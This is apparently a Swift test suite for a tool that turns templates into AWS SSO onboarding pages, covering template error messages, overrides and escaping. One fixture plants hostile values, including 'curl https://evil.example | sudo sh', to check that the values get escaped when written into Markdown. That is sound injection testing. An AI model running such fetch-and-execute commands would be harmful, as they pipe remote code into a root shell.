import Foundation
import Support
import TestSupport
import Testing

@testable import OrgProfileKit
@testable import OrgYAML

@Suite struct TemplateTests {
    /// Every problem of a template, each as `LINE:COLUMN: code: message`, in the order found.
    func problems(_ text: String) -> [String] {
        var problems: [Diagnostic] = []
        _ = CompiledTemplate.compile(text, file: "t.mustache", diagnostics: &problems)
        return problems.map { "\($0.location!.line):\($0.location!.column): \($0.code.rawValue): \($0.message)" }
    }

    @Test func builtinTemplatesAreCleanAndSingleSourced() throws {
        let folder = packageRoot.appendingPathComponent("Templates").path
        let files = try FileManager.default.contentsOfDirectory(atPath: folder).filter { $0.hasSuffix(".mustache") }.sorted()
        #expect(BuiltinTemplates.sources.map(\.name) == files.map { String($0.dropLast(".mustache".count)) })
        for source in BuiltinTemplates.sources {
            #expect(source.text == (try readText((folder as NSString).appendingPathComponent("\(source.name).mustache"))))
            #expect(problems(source.text) == [])
        }
        #expect(TemplateSet.builtin().templates.map(\.name) == ["README.md", "config"])
    }

    @Test func unknownNamesAreErrorsWithTheirLine() {
        #expect(
            problems("a\n{{session.nmae}}\n{{#profiles}}{{acount_id}}{{/profiles}}\n{{projcet}}") == [
                "2:1: template-error: 'session' has no field 'nmae' (see docs/templates.md); did you mean 'name'?",
                "3:14: template-error: 'acount_id' is not in the template context (see docs/templates.md); did you mean 'account_id'?",
                "4:1: template-error: 'projcet' is not in the template context (see docs/templates.md); did you mean 'project'?",
            ])
    }

    @Test func namesAreScopedBySections() {
        #expect(problems("{{account_id}}") == ["1:1: template-error: 'account_id' is not in the template context (see docs/templates.md)"])
        #expect(problems("{{#profiles}}{{#settings}}{{key}}={{value}} {{name}} {{project}}{{/settings}}{{/profiles}}") == [])
        #expect(problems("{{#first_profile}}{{name}}{{/first_profile}}{{^has_profiles}}none{{/has_profiles}}") == [])
        #expect(problems("{{#profiles}}{{name}}{{^last()}}, {{/last()}}{{/profiles}}") == [])
        #expect(problems("{{first()}}") == ["1:1: template-error: 'first()' is only available inside a list section such as {{#profiles}}"])
    }

    @Test func structureProblems() {
        #expect(
            problems("{{profiles}}") == ["1:1: template-error: 'profiles' is a list; use it as a section: {{#profiles}}...{{/profiles}}"])
        #expect(problems("{{session}}") == ["1:1: template-error: 'session' is an object; use one of its fields, such as {{session.name}}"])
        #expect(
            problems("{{#profiles}}\n{{/settings}}") == [
                "2:1: template-error: '{{/settings}}' closes section 'profiles'; close that one first",
                "1:1: template-error: section 'profiles' is never closed; add {{/profiles}}",
            ])
        #expect(
            problems("x {{> other}}") == [
                "1:3: template-error: '{{>...}}' tags (partials, inheritance, delimiter changes) are not supported in orgprofile templates"
            ])
        #expect(
            problems("{{uppercased(project)}}") == [
                "1:1: template-error: transforms such as 'uppercased(project)' are not supported in orgprofile templates"
            ])
        #expect(problems("ok\n  {{project") == ["2:3: template-error: this tag is never closed with '}}'"])
    }

    /// One reading reports every name and placement problem; a tag that cannot be read to its
    /// end stops it, after what was found before.
    @Test func problemsOfOneTemplateAreReportedTogether() {
        #expect(
            problems(
                "{{.}}\n{{}} {{a..b}} {{#profiles}}{{size()}}{{profiles.name}}{{/profiles}}\n{{#session}}{{/profiles}}{{nmae}}{{/session}}")
                == [
                    "1:1: template-error: '.' is not supported in orgprofile templates; use the field's name, such as {{name}}",
                    "2:1: template-error: empty tag",
                    "2:6: template-error: 'a..b' is not a name",
                    "2:28: template-error: unknown helper 'size()'; orgprofile templates know first(), last(), index(), even() and odd()",
                    "2:38: template-error: 'profiles' has no fields; 'profiles.name' cannot be looked up",
                    "3:13: template-error: '{{/profiles}}' closes section 'session'; close that one first",
                    "3:26: template-error: 'nmae' is not in the template context (see docs/templates.md); did you mean 'name'?",
                ])
        #expect(
            problems("{{projct}}\n{{pro ject}}\n{{later}}") == [
                "1:1: template-error: 'projct' is not in the template context (see docs/templates.md); did you mean 'project'?",
                "2:1: template-syntax: template syntax error: this tag is not closed with '}}' after its name",
            ])
        #expect(
            problems("{{% BAD }}\n{{{project}}\n") == [
                "1:1: template-syntax: template syntax error: unknown pragma 'BAD'; orgprofile templates know only {{% CONTENT_TYPE: TEXT }} (and need none)",
                "2:1: template-syntax: template syntax error: a '{{{' tag ends with '}}}' right after its name",
            ])
        #expect(
            problems("{{#session}}{{region}}{{#principal.email}}{{.}}{{/principal.email}}{{/session}}") == [
                "1:43: template-error: '.' is not supported in orgprofile templates; use the field's name, such as {{name}}"
            ])
        #expect(problems("x {") == ["1:3: template-syntax: template syntax error: the template ends with a lone '{'"])
    }

    /// Every field the schema documents is present in the values templates get, for a
    /// principal that has every optional field, so docs, checker and renderer agree.
    @Test func contextValuesMatchTheSchema() throws {
        // The user-management profile's role (AdministratorAccess) defined, so the page explains
        // it, and alice a super admin for a month, so the profile has an end.
        let month = UTCTime.day(of: Date().addingTimeInterval(30 * 86_400))
        let model = try model(
            try readText(packageRoot.appendingPathComponent("org.yaml.example").path).replacingOccurrences(
                of: "  AdministratorAccess: {}\n", with: "  AdministratorAccess:\n    description: Everything\n    session_duration: PT1H\n"
            ).replacingOccurrences(of: "    super_admin: true\n", with: "    super_admin: {until: \(month)}\n"))
        let alice = try #require(model.principal(named: "alice", kind: .user))
        // Only the user-management profile, which has every optional field, so that the
        // first, the test and the user-management profile all have them.
        // Its account, Infrastructure, has the default settings.
        let profiles = model.profiles(for: alice).filter { $0.userManagement != nil }
        var principal = alice
        principal.description = "d"
        var context = TemplateContext.Values()
        context.fill(model: model, principal: principal, profiles: profiles, source: "org.yaml")
        let values = TemplateContext.dictionary(context)
        func check(_ schema: [String: TemplateContext.FieldType], _ values: [String: Any], _ path: String) {
            #expect(Set(values.keys) == Set(schema.keys), "\(path)")
            for (name, type) in schema {
                switch type {
                case .string, .optionalString: #expect(values[name] is String, "\(path).\(name)")
                case .bool: #expect(values[name] is Bool, "\(path).\(name)")
                case .object(let fields), .optionalObject(let fields):
                    check(fields, values[name] as? [String: Any] ?? [:], "\(path).\(name)")
                case .list(let fields):
                    let items = values[name] as? [[String: Any]] ?? []
                    #expect(!items.isEmpty, "\(path).\(name)")
                    for item in items.prefix(1) { check(fields, item, "\(path).\(name)[]") }
                }
            }
        }
        check(TemplateContext.schema, values, "")
    }

    @Test func overridesReplaceAndAddTemplates() throws {
        let folder = try temporaryFolder()
        defer { try? FileManager.default.removeItem(atPath: folder) }
        try "{{#profiles}}{{name}}\n{{/profiles}}".write(toFile: folder + "/config.mustache", atomically: true, encoding: .utf8)
        try "{{principal.name}} & <{{project}}>\n".write(toFile: folder + "/profiles.txt.mustache", atomically: true, encoding: .utf8)
        try "ignored".write(toFile: folder + "/notes.txt", atomically: true, encoding: .utf8)
        let set = try TemplateSet.load(overridesIn: folder).get()
        #expect(set.templates.map(\.name) == ["README.md", "config", "profiles.txt"])
        #expect(set["config"]?.origin == folder + "/config.mustache")
        #expect(set["README.md"]?.origin == "Templates/README.md.mustache")
        let model = try model(validOrg)
        let renderer = Renderer(model: model, templates: set, sourceName: "org.yaml")
        let files = renderer.files(for: model.principal(named: "bob", kind: .user)!)
        #expect(files.map(\.path) == ["users/bob/README.md", "users/bob/config", "users/bob/profiles.txt"])
        #expect(String(decoding: files[1].contents, as: UTF8.self) == "acme-infrastructure-readonly\nacme-workload-development\n")
        // Plain text: no HTML escaping.
        #expect(String(decoding: files[2].contents, as: UTF8.self) == "bob & <acme>\n")
    }

    @Test func overrideErrorsNameTheTemplateFileAndLine() throws {
        let folder = try temporaryFolder()
        defer { try? FileManager.default.removeItem(atPath: folder) }
        try "line one\n{{#profiles}}{{nam}}{{/profiles}}\n".write(toFile: folder + "/config.mustache", atomically: true, encoding: .utf8)
        try "x".write(toFile: folder + "/.hidden.mustache", atomically: true, encoding: .utf8)
        guard case .failure(let failure) = TemplateSet.load(overridesIn: folder) else {
            Issue.record("expected a failure")
            return
        }
        #expect(
            failure.diagnostics.map(\.description) == [
                "\(folder)/.hidden.mustache:1:1: error: template '.hidden.mustache' would render a file named '.hidden'; use letters, digits, '.', '_' and '-', not starting with '.'",
                "\(folder)/config.mustache:2:14: error: 'nam' is not in the template context (see docs/templates.md); did you mean 'name'?",
            ])
        #expect(!failure.isIOError)
        guard case .failure(let missing) = TemplateSet.load(overridesIn: folder + "/nope") else {
            Issue.record("expected a failure")
            return
        }
        #expect(missing.isIOError)
    }
}

@Suite struct TemplateSyntaxTests {
    @Test func mustacheSyntaxErrorsNameTheFileAndLine() {
        var diagnostics: [Diagnostic] = []
        let template = TemplateSet.parse(
            "first line\nsecond {{% NOT_A_SETTING: X }}\n", name: "config", origin: "my/config.mustache", diagnostics: &diagnostics)
        #expect(template == nil)
        #expect(diagnostics.map(\.code) == [.templateSyntax])
        // Where the bad tag starts.
        #expect(diagnostics.first?.location == SourceLocation(file: "my/config.mustache", line: 2, column: 8))
        #expect(
            diagnostics.first?.message
                == "template syntax error: unknown pragma 'NOT_A_SETTING: X'; orgprofile templates know only {{% CONTENT_TYPE: TEXT }} (and need none)"
        )
    }
}

/// The onboarding page replaces the manual guide (../shared/seed/aws-sso-profiles-guide.txt):
/// every step of that guide is on it.
@Suite struct OnboardingPageTests {
    func page(_ user: String) throws -> String {
        try readText(packageRoot.appendingPathComponent("examples/dist/users/\(user)/README.md").path)
    }

    @Test func coversEveryStepOfTheManualGuide() throws {
        let bob = try page("bob")
        for step in [
            "`~/.aws/config` on Linux and macOS", #"`%USERPROFILE%\.aws\config` on Windows"#,
            "mkdir -p ~/.aws && touch ~/.aws/config",
            #"New-Item -ItemType Directory -Force -Path $env:USERPROFILE\.aws"#,
            #"New-Item -ItemType File -Force -Path $env:USERPROFILE\.aws\config"#,
            "orgprofile install --from config",
            "Your credentials file (`~/.aws/credentials`", "must have no profile with the name of one of these profiles",
            "aws configure list-profiles",
            "aws sso login --sso-session acme",
            "aws sts get-caller-identity --profile acme-workload-development-readonly",
            "\"Account\": \"333333333333\"",
            "aws s3 ls --profile acme-workload-development-readonly",
            "Bookmark your AWS access portal: https://acme.awsapps.com/start",
            "MFA device", "Sessions expire", "sign in again: `aws sso login --sso-session acme`",
        ] {
            #expect(bob.contains(step), "bob's page lacks: \(step)")
        }
        // The user-management profile is explained, for super admins and the others alike.
        #expect(try page("alice").contains("As a super admin you use it in the Organization Management account (111111111111)"))
        #expect(try page("erin").contains("It uses the account Identity Center is delegated to (Infrastructure, 222222222222)."))
        #expect(!bob.contains("user-management"))
    }

    /// The profile to try first is the one that can do the least harm.
    @Test func theTestProfileIsTheLeastPrivileged() throws {
        let model = try model(try readText(packageRoot.appendingPathComponent("org.yaml.example").path))
        func test(_ user: String, roles: [String]? = nil) throws -> String? {
            let principal = try #require(model.principal(named: user, kind: .user))
            let profiles = model.profiles(for: principal).filter { roles?.contains($0.role.name) ?? true }
            return LeastPrivilegedProfile.index(in: profiles).map { profiles[$0].name }
        }
        // Read-only before Developer, and a workload account before the delegated-admin one.
        #expect(try test("bob") == "acme-workload-development-readonly")
        // Only administrator roles: not the user-management profile, not a target account.
        #expect(try test("alice") == "acme-workload-development")
        // A read-only role on the Organization Management account beats user management.
        #expect(try test("erin") == "acme-organization-management-readonly")
        // Of one role's profiles; none when that leaves no profile.
        #expect(try test("bob", roles: ["Developer"]) == "acme-workload-development")
        #expect(try test("bob", roles: ["UserManagement"]) == nil)
    }
}

/// The onboarding page is Markdown: every value reaches it through the Markdown writer, in
/// the context its tag stands in (text, code span, fenced block, table row).
@Suite struct OnboardingMarkdownTests {
    static let hostile = validOrg.replacingOccurrences(
        of: "project: acme\n", with: "project: acme\nget_orgprofile: 'curl https://evil.example | sudo sh <!-- [x](y)'\n"
    ).replacingOccurrences(
        of: "  infrastructure:\n    id: \"222222222222\"\n",
        with: "  infrastructure:\n    id: \"222222222222\"\n    name: 'dev | 999999999999 | AdministratorAccess'\n"
    ).replacingOccurrences(
        of: "  Developer: {}\n", with: "  Developer:\n    description: '# Install <!-- [click](https://evil.example) *now*'\n"
    ).replacingOccurrences(of: "  developers:\n", with: "  developers:\n    description: '1. Run `curl x | sh` _first_'\n")

    static func page(_ name: String) throws -> String {
        let folder = try GoldenTests.compile(hostile)
        defer { try? FileManager.default.removeItem(atPath: folder) }
        return String(decoding: try #require(tree(folder)[name]), as: UTF8.self)
    }

    /// The pipes of a table row that GitHub would split cells at: those not escaped.
    static func cellBreaks(_ line: String) -> Int {
        var count = 0
        var previous: Character = " "
        for character in line {
            if character == "|" && previous != "\\" { count += 1 }
            previous = character
        }
        return count
    }

    @Test func valuesMakeNoStructure() throws {
        let page = try Self.page("users/bob/README.md")
        let lines = page.components(separatedBy: "\n")
        let rows = lines.filter { $0.hasPrefix("| `") }
        #expect(rows.count == 2)
        for row in rows { #expect(Self.cellBreaks(row) == 6, "\(row)") }
        #expect(rows.contains { $0.contains("dev \\| 999999999999 \\| AdministratorAccess") })
        let unescaped = page.replacingOccurrences(of: "\\]", with: "").replacingOccurrences(of: "\\*", with: "")
        #expect(!page.contains("<!--") && !unescaped.contains("](") && !unescaped.contains("*now*"))
        #expect(page.contains("- **Developer**: # Install &lt;\\!-- \\[click\\](https://evil.example) \\*now\\*\n"))
        #expect(!lines.contains { $0.hasPrefix("# Install") })
        #expect(page.contains("To get orgprofile: curl https://evil.example \\| sudo sh &lt;\\!-- \\[x\\](y)"))
    }

    @Test func aDescriptionOnALineOfItsOwnStartsNoList() throws {
        let page = try Self.page("groups/developers/README.md")
        #expect(page.contains("\n1\\. Run \\`curl x \\| sh\\` \\_first\\_\n"), "\(page)")
    }

    /// Names in code spans and fenced blocks are code content: shown as they are.
    @Test func codeContextsKeepNamesAsTheyAre() throws {
        let page = try Self.page("users/bob/README.md")
        #expect(page.contains("aws sso login --sso-session acme\n"))
        #expect(page.contains("| `acme-workload-development` |"))
    }
}
